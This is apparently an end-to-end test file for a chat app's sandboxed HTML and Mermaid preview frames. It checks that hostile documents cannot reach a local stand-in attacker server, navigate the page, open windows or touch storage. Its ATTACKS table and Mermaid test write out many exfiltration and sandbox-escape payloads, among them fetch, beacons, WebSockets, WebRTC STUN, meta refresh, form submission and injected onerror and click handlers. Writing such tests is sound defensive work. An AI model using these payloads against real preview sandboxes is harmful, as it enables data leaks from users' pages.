/**
 * Hostile documents in the frames of the page: none reaches a network, the page, or another window.
 *
 * A server that counts everything (requests, connections, datagrams) stands for the attacker. Each document says that it
 * ran, so that a frame which shows nothing cannot pass.
 */

import assert from "node:assert/strict";
import dgram from "node:dgram";
import { createServer } from "node:http";
import { after, before, beforeEach, describe, it } from "node:test";
import { ask, launch, openPage } from "./browser.mjs";
import { startMock, stream } from "./mock.mjs";

let browser;
let mock;
let attacker;
let datagrams;
let answer = "";
const reached = [];

before(async () => {
  browser = await launch();
  mock = await startMock(() => ({ events: stream({ answer, size: 4000, pace: 0 }) }));
  attacker = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("x");
  });
  attacker.on("connection", () => reached.push("a connection"));
  datagrams = dgram.createSocket("udp4").on("message", () => reached.push("a datagram"));
  await new Promise((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  await new Promise((resolve) => datagrams.bind(0, "127.0.0.1", resolve));
});
after(async () => {
  await browser?.close();
  await mock?.close();
  attacker?.close();
  datagrams?.close();
});
beforeEach(() => {
  reached.length = 0;
});

const address = () => `http://127.0.0.1:${attacker.address().port}`;
const script = (text) => `<script>try { ${text} } catch {}</script>`;
const later = (text) => script(`${text}.catch(() => {})`);
const clicked = (attributes) => `<a id="a" ${attributes}>x</a>${script("a.click()")}`;
const stun = (window) =>
  script(`const p = new ${window}.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${datagrams.address().port}" }] });
    p.createDataChannel("x"); p.createOffer().then((offer) => p.setLocalDescription(offer))`);

const ATTACKS = {
  "requests of scripts": (to) =>
    [`fetch("${to}/fetch")`, `import("${to}/import")`, `new FontFace("q", "url(${to}/face)").load()`].map(later).join("") +
    [
      `navigator.sendBeacon("${to}/beacon")`,
      `new WebSocket("${to}/socket".replace("http", "ws"))`,
      `new EventSource("${to}/events")`,
      `fetchLater("${to}/later", { activateAfter: 0 })`,
      `const x = new XMLHttpRequest(); x.open("GET", "${to}/xhr"); x.send()`,
      `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker')"])))`,
      `document.adoptedStyleSheets = [new CSSStyleSheet()]; document.adoptedStyleSheets[0].replaceSync("body { background: url(${to}/adopted) }")`,
    ].map(script).join(""), // prettier-ignore
  "elements that load": (to) => `
    <img src="${to}/img" srcset="${to}/set 2x"><video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio"></audio>
    <style>@import "${to}/css"; body { background: url(${to}/bg); font-family: f } @font-face { font-family: f; src: url(${to}/font) }</style>
    <script src="${to}/script"></script><link rel="stylesheet" href="${to}/link"><link rel="icon" href="${to}/icon"><link rel="manifest" href="${to}/m">
    <object data="${to}/object"></object><embed src="${to}/embed"><iframe src="${to}/frame"></iframe>
    <iframe srcdoc="<img src='${to}/nested'><meta http-equiv='refresh' content='0;url=${to}/nestedmeta'>"></iframe>
    <svg><image href="${to}/image"/><use href="${to}/use#x"/><filter id="q"><feImage href="${to}/fe"/></filter><rect filter="url(#q)" width="9" height="9"/></svg>`,
  "hints ahead of requests": (to) =>
    ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender"].map((rel) => `<link rel="${rel}" as="image" href="${to}/${rel}">`).join("") +
    script(`const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${to}"; document.head.append(l)`) +
    `<script type="speculationrules">{"prefetch":[{"urls":["${to}/rules"],"eagerness":"immediate"}]}</script>`,
  "a navigation by script": (to) => script(`location = "${to}/location"`),
  "a navigation by meta": (to) => `<meta http-equiv="refresh" content="0;url=${to}/meta">`,
  "a navigation by link": (to) => clicked(`href="${to}/a" ping="${to}/ping"`),
  "a navigation of the page": (to) => script(`top.location = "${to}/top"`) + clicked(`href="${to}/atop" target="_top"`),
  "a new window": (to) => script(`window.open("${to}/open")`) + clicked(`href="${to}/blank" target="_blank"`),
  "forms": (to) => `<form id="f" action="${to}/form" method="post"></form><form id="g" target="_top" action="${to}/gform"></form>${script("f.submit()")}${script("g.submit()")}`,
  "WebRTC": () => stun("window"),
  "WebRTC of a nested frame": () => `<iframe id="i"></iframe>${stun("i.contentWindow")}`,
  "reports": (to) => `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to}/report"><img src="data:,x">`,
  "the page itself": () => script("parent.document.title = 'owned'") + script("localStorage.x = 1") + script("document.cookie = 'x=1'") + script("alert(1)"),
}; // prettier-ignore

async function openFrame(name, source) {
  answer = `\`\`\`${name}\n${source}\n\`\`\``;
  const opened = await openPage(browser, mock.url);
  await ask(opened.page, "Draw");
  await opened.page.locator(".figures").waitFor();
  return opened;
}

describe("a preview", () => {
  for (const [name, document] of Object.entries(ATTACKS)) {
    it(`lets no hostile document out: ${name}`, { timeout: 60_000 }, async () => {
      const ran = `<script>parent.postMessage("ran", "*")</script>`;
      const { context, page } = await openFrame("html", `<!doctype html>${ran}${document(address()).replace(/\n\s*/g, " ")}`);
      let popups = 0;
      let dialogs = 0;
      context.on("page", () => (popups += 1));
      page.on("dialog", (dialog) => ((dialogs += 1), dialog.dismiss()));
      const { url, title } = { url: page.url(), title: await page.title() };
      await page.evaluate(() => addEventListener("message", ({ data, origin }) => data === "ran" && (window.ran = origin)));
      assert.equal(await page.locator("iframe").count(), 0, "nothing runs before the reader asks");
      await page.getByRole("button", { name: "Preview" }).click();
      await page.waitForFunction(() => "ran" in window);
      assert.equal(await page.evaluate(() => window.ran), "null", "the frame has no origin");
      await page.waitForTimeout(name.startsWith("WebRTC") ? 900 : 400);
      assert.deepEqual([...new Set(reached)], []);
      assert.deepEqual({ url: page.url(), title: await page.title(), popups, dialogs }, { url, title, popups: 0, dialogs: 0 });
      assert.deepEqual(await page.evaluate(() => Object.keys(localStorage).filter((key) => !key.startsWith("fathom:"))), []);
      await context.close();
    });
  }

  it("shows a document with its scripts and styles, and goes away again", { timeout: 60_000 }, async () => {
    const { context, page, complaints } = await openFrame("html", "<style>p { color: rgb(1, 2, 3) }</style><p id=p>old</p><script>p.textContent = 'new'</script>");
    await page.getByRole("button", { name: "Preview" }).click();
    const text = page.frameLocator("iframe.preview").getByText("new");
    await text.waitFor();
    assert.equal(await text.evaluate((element) => getComputedStyle(element).color), "rgb(1, 2, 3)");
    await page.getByRole("button", { name: "Preview" }).click();
    await page.locator(".code pre").waitFor();
    assert.equal(await page.locator("iframe").count(), 0);
    assert.deepEqual(complaints, []);
    await context.close();
  });

  it("shows a picture", { timeout: 60_000 }, async () => {
    const { context, page } = await openFrame("xml", '<?xml version="1.0"?>\n<svg viewBox="0 0 10 10"><circle r="4" cx="5" cy="5"/></svg>');
    await page.getByRole("button", { name: "Preview" }).click();
    await page.frameLocator("iframe.preview").locator("circle").waitFor();
    await context.close();
  });

  it("is not offered for what is too large", { timeout: 60_000 }, async () => {
    const { context, page } = await openFrame("html", "<p>x</p>\n".repeat(60_000));
    assert.equal(await page.getByRole("button", { name: "Preview" }).count(), 0);
    await context.close();
  });

  it("is without origin also when it is opened by address", { timeout: 60_000 }, async () => {
    const { context, page } = await openPage(browser, `${mock.url}frames/preview.html`);
    assert.equal(await page.evaluate(() => self.origin), "null");
    await context.close();
  });
});

describe("a diagram", () => {
  it("is drawn, in the colors of the theme, with its source at hand", { timeout: 60_000 }, async () => {
    const { context, page, complaints } = await openFrame("mermaid", "flowchart LR\n  A[Start] --> B{Choice}\n  B -->|yes| C[End]");
    await page.locator("iframe.diagram.drawn").waitFor();
    const frame = page.frameLocator("iframe.diagram");
    await frame.getByText("Choice").waitFor();
    const height = () => page.locator("iframe.diagram").evaluate((element) => element.clientHeight);
    assert.ok((await height()) > 60);
    const color = () => frame.locator("svg .node rect, svg .node path").first().evaluate((node) => getComputedStyle(node).fill);
    const light = await color();
    await page.emulateMedia({ colorScheme: "dark" });
    for (let tries = 0; tries < 100 && (await color().catch(() => light)) === light; tries += 1) await page.waitForTimeout(50);
    assert.notEqual(await color(), light);
    await page.getByRole("button", { name: "Diagram" }).click();
    await page.locator(".code pre").getByText("flowchart LR").waitFor();
    assert.deepEqual(complaints, []);
    await context.close();
  });

  it("that is broken shows its source, and why", { timeout: 60_000 }, async () => {
    const { context, page } = await openFrame("mermaid", "flowchart LR\n  A[[[ --> ");
    await page.getByText("This diagram cannot be drawn").waitFor();
    await page.locator(".code pre").getByText("A[[[").waitFor();
    await context.close();
  });

  it("can neither load, link nor run anything", { timeout: 60_000 }, async () => {
    const to = address();
    const source = `flowchart LR\n  A["<img src='${to}/img' onerror='parent.postMessage(1)'><script>fetch('${to}/s')</script><a href='${to}/a'>x</a>"] --> B\n  click A "${to}/click" _top\n  click B call alert(1)\n  style A fill:url(${to}/fill)\n%%{init: {"themeCSS": "body { background: url(${to}/css) }", "securityLevel": "loose"}}%%`;
    const { context, page } = await openFrame("mermaid", source);
    await page.locator("iframe.diagram.drawn, .diagram-error").first().waitFor();
    const url = page.url();
    await page.frameLocator("iframe.diagram").locator(".node").first().click({ timeout: 2000 }).catch(() => undefined);
    await page.waitForTimeout(400);
    assert.deepEqual([...new Set(reached)], []);
    assert.equal(page.url(), url);
    await context.close();
  });
});
